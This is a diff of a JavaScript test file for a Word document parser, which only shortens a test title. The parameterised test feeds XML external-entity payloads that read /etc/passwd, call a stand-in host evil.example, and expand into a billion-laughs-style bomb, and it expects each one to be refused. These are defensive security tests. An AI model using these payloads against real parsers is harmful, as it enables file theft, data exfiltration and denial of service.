@@ -61,7 +61,7 @@ describe('A Word document', () => {
     ['a file of the reader’s', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'],
     ['somebody’s server', '<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/?from=desk">]>'],
     ['a billion words', `<!DOCTYPE x [<!ENTITY a "w"><!ENTITY y "${'&a;'.repeat(1_000)}">]>`],
-  ])('whose entity stands for %s is refused, and nothing is fetched', async (_, doctype) => {
+  ])('whose entity stands for %s is refused', async (_, doctype) => {
     expect(await failureOf(word(document(said('&y;'), doctype)))).toBe('broken');
   });
 
